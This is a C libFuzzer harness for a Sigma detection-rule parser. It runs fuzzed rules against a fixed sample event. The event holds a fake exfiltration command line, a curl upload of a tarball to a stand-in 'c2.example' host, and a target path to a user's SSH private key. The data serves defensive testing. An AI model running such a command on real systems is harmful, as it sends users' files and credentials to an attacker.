/*
 * libFuzzer harness for the Sigma rule parser (src/rules/sigma.c): arbitrary bytes as a
 * rule file, then, if it parsed, a match against a fixed event of each category so the
 * compiled condition and wildcard programs run too.
 */
#include <stddef.h>
#include <stdint.h>

#include "bos/sigma.h"

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	static const struct bos_sigma_field f[] = {
		{ "Image", "/usr/bin/curl" },
		{ "CommandLine", "curl -F f=@/tmp/d.tgz http://c2.example/u" },
		{ "TargetFilename", "/home/alice/.ssh/id_rsa" },
		{ "DestinationIp", "10.1.2.3" },
		{ "DestinationPort", "445" },
		{ "Initiated", "true" },
	};
	struct bos_sigma_rule *r = NULL;
	struct bos_err err = BOS_ERR_INIT;

	if (bos_sigma_parse(&r, data, size, "fuzz.yml", &err) == 0) {
		for (int c = 0; c < BOS_SIGMA_CAT_COUNT; c++) {
			struct bos_sigma_event ev = { (enum bos_sigma_cat)c, f, 6 };

			(void)bos_sigma_match(r, &ev);
		}
		(void)bos_sigma_rule_info(r);
	}
	bos_sigma_rule_free(r);
	return 0;
}
